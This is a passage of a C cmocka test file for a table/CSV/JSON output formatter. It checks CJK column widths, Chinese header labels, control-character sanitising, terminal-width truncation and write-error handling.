		{ "city", "城市", CS_COL_TEXT },
		{ "n", "数量", CS_COL_NUM }
	};
	static const char *const rows[] = {
		"张三", "北京市", "1",
		"欧阳娜娜", "上海", "20",
		"Tom", "NY", "300"
	};
	struct result r;

	(void)state;
	EXPECT(CS_FMT_TABLE, cols, rows, 3,
	    "name      city      n\n"
	    "张三      北京市    1\n"
	    "欧阳娜娜  上海     20\n"
	    "Tom       NY      300\n");
	r = render(CS_FMT_TABLE, cols, 3, rows, 3);
	check_column_starts(r.s, 1, 10);
	check_line_widths(r.s, 21);
	free(r.s);

	cs_conf.lang_zh = 1;
	EXPECT(CS_FMT_TABLE, cols, rows, 3,
	    "姓名      城市    数量\n"
	    "张三      北京市     1\n"
	    "欧阳娜娜  上海      20\n"
	    "Tom       NY       300\n");
	r = render(CS_FMT_TABLE, cols, 3, rows, 3);
	check_column_starts(r.s, 1, 10);
	check_line_widths(r.s, 22);
	free(r.s);
}

static void
test_table_lang_zh_fallback(void **state)
{
	static const char *const rows[] = { "7", "李四", "备注" };

	(void)state;
	/* "note" has no Chinese label and keeps its name */
	cs_conf.lang_zh = 1;
	EXPECT(CS_FMT_TABLE, cols3, rows, 1,
	    "编号  姓名  note\n"
	    "   7  李四  备注\n");
}

static void
test_table_trailing(void **state)
{
	static const struct cs_col cols[] = {
		{ "a", NULL, CS_COL_TEXT }, { "bb", NULL, CS_COL_TEXT }
	};
	static const char *const rows[] = {
		"xxxx", "",
		"y", NULL,
		"", "z",
		"pad  ", "q  "
	};

	(void)state;
	EXPECT(CS_FMT_TABLE, cols, rows, 4,
	    "a      bb\n"
	    "xxxx\n"
	    "y\n"
	    "       z\n"
	    "pad    q\n");
}

static void
test_table_controls(void **state)
{
	static const struct cs_col cols[] = {
		{ "v", NULL, CS_COL_TEXT }, { "w", NULL, CS_COL_TEXT }
	};
	static const char *const rows[] = {
		"a\nb", "1",
		"a\r\nb", "2",
		"a\tb\rc", "3",
		"\x1b[31mred", "4",
		("c1\xc2\x9b" "x\xc2\xa9"), "5"
	};

	(void)state;
	EXPECT(CS_FMT_TABLE, cols, rows, 5,
	    "v         w\n"
	    "a\xe2\x86\xb5" "b       1\n"
	    "a\xe2\x86\xb5" "b       2\n"
	    "a b c     3\n"
	    "?[31mred  4\n"
	    "c1?x\xc2\xa9     5\n");
}

static void
test_table_no_truncate(void **state)
{
	static const struct cs_col cols[] = {
		{ "a", NULL, CS_COL_TEXT }, { "b", NULL, CS_COL_TEXT }
	};
	static const char *const rows[] = {
		"a very long value that is wider than any terminal set in "
		"COLUMNS", "这是一段很长的备注"
	};

	(void)state;
	/* not a terminal: never cut, whatever COLUMNS says */
	setenv("COLUMNS", "20", 1);
	EXPECT(CS_FMT_TABLE, cols, rows, 1,
	    "a                                                               "
	    "  b\n"
	    "a very long value that is wider than any terminal set in COLUMNS"
	    "  这是一段很长的备注\n");
}

/* ---- a terminal: fitting and bold ------------------------------------- */

struct pty {
	int master, slave;
	FILE *fp;
};

static void
pty_open(struct pty *t, unsigned short cols)
{
	struct winsize ws = { 0 };
	struct termios tio;

	/* a machine without pseudo-terminals cannot run these */
	t->master = posix_openpt(O_RDWR | O_NOCTTY);
	if (t->master < 0) {
		print_message("no pseudo-terminal: %s\n", strerror(errno));
		skip();
	}
	assert_int_equal(grantpt(t->master), 0);
	assert_int_equal(unlockpt(t->master), 0);
	t->slave = open(ptsname(t->master), O_RDWR | O_NOCTTY);
	assert_true(t->slave >= 0);
	/* raw: no \n -> \r\n on the way out */
	assert_int_equal(tcgetattr(t->slave, &tio), 0);
	cfmakeraw(&tio);
	assert_int_equal(tcsetattr(t->slave, TCSANOW, &tio), 0);
	ws.ws_col = cols;
	ws.ws_row = 24;
	assert_int_equal(ioctl(t->slave, TIOCSWINSZ, &ws), 0);
	t->fp = fdopen(t->slave, "w");
	assert_non_null(t->fp);
}

/* What was written to the terminal so far. */
static char *
pty_read(struct pty *t)
{
	struct cs_buf b = { 0 };
	struct pollfd pfd = { t->master, POLLIN, 0 };
	char chunk[4096];
	ssize_t n;

	cs_buf_add(&b, "", 0);
	while (poll(&pfd, 1, b.len == 0 ? 500 : 50) == 1 &&
	    (pfd.revents & POLLIN)) {
		n = read(t->master, chunk, sizeof(chunk));
		if (n <= 0)
			break;
		cs_buf_add(&b, chunk, (size_t)n);
	}
	return b.s;
}

static void
pty_close(struct pty *t)
{
	fclose(t->fp);
	close(t->master);
}

static char *
pty_render(unsigned short width, const struct cs_col *cols, size_t ncols,
    const char *const *cells, size_t nrows)
{
	struct pty t;
	struct cs_out *o;
	char *s;
	size_t i;

	pty_open(&t, width);
	assert_int_equal(cs_fmt_default(t.fp), CS_FMT_TABLE);
	o = cs_out_new(t.fp, CS_FMT_TABLE, cols, ncols);
	for (i = 0; i < nrows; i++)
		cs_out_row(o, cells + i * ncols);
	assert_int_equal(cs_out_end(o), 0);
	s = pty_read(&t);
	pty_close(&t);
	return s;
}

static const struct cs_col tcols[] = {
	{ "id", NULL, CS_COL_NUM },
	{ "name", NULL, CS_COL_TEXT },
	{ "note", NULL, CS_COL_TEXT }
};

static void
test_tty_fit_cjk(void **state)
{
	static const char *const rows[] = {
		"1", "张三", "这是一段很长的备注内容需要被截断显示",
		"22", "欧阳娜娜", "短"
	};
	char *s;

	(void)state;
	/* 2+2+8+2+36 = 50 columns into 30: note gets 30-14 = 16 */
	s = pty_render(30, tcols, 3, rows, 2);
	assert_string_equal(s,
	    "\033[1mid  name      note\033[0m\n"
	    " 1  张三      这是一段很长的…\n"
	    "22  欧阳娜娜  短\n");
	free(s);
	s = pty_render(31, tcols, 3, rows, 2);
	assert_string_equal(s,
	    "\033[1mid  name      note\033[0m\n"
	    " 1  张三      这是一段很长的备…\n"
	    "22  欧阳娜娜  短\n");
	free(s);
	/* the cut leaves out a wide character that would not fit */
	s = pty_render(32, tcols, 3, rows, 2);
	assert_string_equal(s,
	    "\033[1mid  name      note\033[0m\n"
	    " 1  张三      这是一段很长的备…\n"
	    "22  欧阳娜娜  短\n");
	free(s);
}

static void
test_tty_fit_share(void **state)
{
	static const char *const rows[] = {
		"1", "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
		"cccccccccccccccccccccccccccccccccccccccc"
	};
	char *s;

	(void)state;
	setenv("NO_COLOR", "1", 1);
	/* 2+2+40+2+40 into 61: the cap is 27, one column left over goes
	 * to the first capped column */
	s = pty_render(61, tcols, 3, rows, 1);
	assert_string_equal(s,
	    "id  name                          note\n"
	    " 1  bbbbbbbbbbbbbbbbbbbbbbbbbbb…  cccccccccccccccccccccccccc…\n");
	free(s);
	/* too narrow even at the minimum width: 8 columns each */
	s = pty_render(10, tcols, 3, rows, 1);
	assert_string_equal(s,
	    "id  name      note\n"
	    " 1  bbbbbbb…  ccccccc…\n");
	free(s);
	/* wide enough: nothing cut */
	s = pty_render(200, tcols, 3, rows, 1);
	assert_string_equal(s,
	    "id  name                                      note\n"
	    " 1  bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb  "
	    "cccccccccccccccccccccccccccccccccccccccc\n");
	free(s);
}

static void
test_tty_columns_env(void **state)
{
	static const char *const rows[] = {
		"1", "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", "c"
	};
	char *s;

	(void)state;
	/* a terminal that does not know its size: $COLUMNS */
	setenv("COLUMNS", "30", 1);
	setenv("NO_COLOR", "", 1);
	s = pty_render(0, tcols, 3, rows, 1);
	assert_string_equal(s,
	    "\033[1mid  name                  note\033[0m\n"
	    " 1  bbbbbbbbbbbbbbbbbbb…  c\n");
	free(s);
	/* neither: 80 */
	unsetenv("COLUMNS");
	s = pty_render(0, tcols, 3, rows, 1);
	assert_string_equal(s,
	    "\033[1mid  name                                      note\033[0m\n"
	    " 1  bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb  c\n");
	free(s);
}

static void
test_tty_no_header(void **state)
{
	static const char *const rows[] = { "1", "x", "y" };
	char *s;

	(void)state;
	cs_conf.no_header = 1;
	s = pty_render(80, tcols, 3, rows, 1);
	assert_string_equal(s, "1  x  y\n");
	free(s);
}

/* ---- write errors ----------------------------------------------------- */

struct werr {
	enum cs_fmt fmt;
	size_t nrows;
	const char *path;
};

static int
write_full(void *arg)
{
	static const char *const row[] = { "1", "张三", "note" };
	struct werr *w = arg;
	struct cs_out *o;
	FILE *fp;
	size_t i;
	int status;

	fp = fopen(w->path, "w");
	assert_non_null(fp);
	o = cs_out_new(fp, w->fmt, cols3, 3);
	for (i = 0; i < w->nrows; i++)
		cs_out_row(o, row);
	status = cs_out_end(o);
	fclose(fp);
	return status;
}

static void
test_write_error(void **state)
{
	static const enum cs_fmt fmts[] = { CS_FMT_TABLE, CS_FMT_CSV,
		CS_FMT_TSV, CS_FMT_JSON, CS_FMT_JSONL };
	struct werr w = { CS_FMT_CSV, 0, "/dev/full" };
	char *msg;
	size_t i;
	int status;

	(void)state;
	for (i = 0; i < NELEM(fmts); i++) {
		w.fmt = fmts[i];
		w.nrows = 3;
		msg = capture_stderr(write_full, &w, &status);
		assert_int_equal(status, CS_EX_IOERR);
		assert_non_null(strstr(msg, "write error: "));
		assert_non_null(strstr(msg, strerror(ENOSPC)));
		free(msg);
		/* the error shows mid-stream too, past the stdio buffer */
		w.nrows = 100000;
		msg = capture_stderr(write_full, &w, &status);
		assert_int_equal(status, CS_EX_IOERR);
		assert_non_null(strstr(msg, strerror(ENOSPC)));
		free(msg);
	}
	/* and nothing is said when all went well */
	w.path = "/dev/null";
	w.fmt = CS_FMT_CSV;
	msg = capture_stderr(write_full, &w, &status);
	assert_int_equal(status, 0);
	assert_string_equal(msg, "");
	free(msg);
}

static int
write_pipe(void *arg)
{
	static const char *const row[] = { "1", "x", "y" };
	struct cs_out *o;
	void (*old)(int);
	int fd[2], status;
	FILE *fp;

	(void)arg;
	assert_int_equal(pipe(fd), 0);
	close(fd[0]);
	old = signal(SIGPIPE, SIG_IGN);
	fp = fdopen(fd[1], "w");
	o = cs_out_new(fp, CS_FMT_CSV, cols3, 3);
	cs_out_row(o, row);
	status = cs_out_end(o);
	fclose(fp);
	signal(SIGPIPE, old);
	return status;
}

static void
test_write_epipe(void **state)
{
	char *msg;
	int status;

	(void)state;
	/* a reader that went away: 74, without a word */
	msg = capture_stderr(write_pipe, NULL, &status);
	assert_int_equal(status, CS_EX_IOERR);
	assert_string_equal(msg, "");
	free(msg);
}

/* A marked column (search snippets): [ ] where there is no bold, in
 * every format; a table off a terminal too. */
static void
test_marked(void **state)
{
	static const struct cs_col cols[] = {
		{ "id", NULL, CS_COL_NUM },
		{ "snippet", NULL, CS_COL_MARKED },
	};
	static const char *const rows[] = {
		"1", "七天无理由\x02退货\x03，请\x02退货\x03",
		"2", NULL,
	};

	(void)state;
	EXPECT(CS_FMT_CSV, cols, rows, 2, "id,snippet\n"
	    "1,七天无理由[退货]，请[退货]\n2,\n");
	EXPECT(CS_FMT_JSONL, cols, rows, 1,
	    "{\"id\":1,\"snippet\":\"七天无理由[退货]，请[退货]\"}\n");
	EXPECT(CS_FMT_TABLE, cols, rows, 1, "id  snippet\n"
	    " 1  七天无理由[退货]，请[退货]\n");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(test_text_width, setup),
		cmocka_unit_test_setup(test_text_fit, setup),
		cmocka_unit_test_setup(test_fmt_parse, setup),
		cmocka_unit_test_setup(test_fmt_default, setup),
		cmocka_unit_test_setup(test_csv, setup),
		cmocka_unit_test_setup(test_csv_no_header, setup),
		cmocka_unit_test_setup(test_csv_one_column, setup),
		cmocka_unit_test_setup(test_csv_lang_zh, setup),
		cmocka_unit_test_setup(test_csv_field, setup),
		cmocka_unit_test_setup(test_cell_round_trip, setup),
		cmocka_unit_test_setup(test_excel_cell, setup),
		cmocka_unit_test_setup(test_excel_csv, setup),
		cmocka_unit_test_setup(test_excel_tsv, setup),
		cmocka_unit_test_setup(test_excel_empty, setup),
		cmocka_unit_test_setup(test_excel_payloads, setup),
		cmocka_unit_test_setup(test_excel_payloads_file, setup),
		cmocka_unit_test_setup(test_excel_payloads_control, setup),
		cmocka_unit_test_setup(test_tsv, setup),
		cmocka_unit_test_setup(test_marked, setup),
		cmocka_unit_test_setup(test_json, setup),
		cmocka_unit_test_setup(test_json_types, setup),
		cmocka_unit_test_setup(test_json_escape, setup),
		cmocka_unit_test_setup(test_empty, setup),
		cmocka_unit_test_setup(test_table_ascii, setup),
		cmocka_unit_test_setup(test_table_cjk, setup),
		cmocka_unit_test_setup(test_table_lang_zh_fallback, setup),
		cmocka_unit_test_setup(test_table_trailing, setup),
		cmocka_unit_test_setup(test_table_controls, setup),
		cmocka_unit_test_setup(test_table_no_truncate, setup),
		cmocka_unit_test_setup(test_tty_fit_cjk, setup),
		cmocka_unit_test_setup(test_tty_fit_share, setup),
		cmocka_unit_test_setup(test_tty_columns_env, setup),
		cmocka_unit_test_setup(test_tty_no_header, setup),
		cmocka_unit_test_setup(test_write_error, setup),
		cmocka_unit_test_setup(test_write_epipe, setup),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
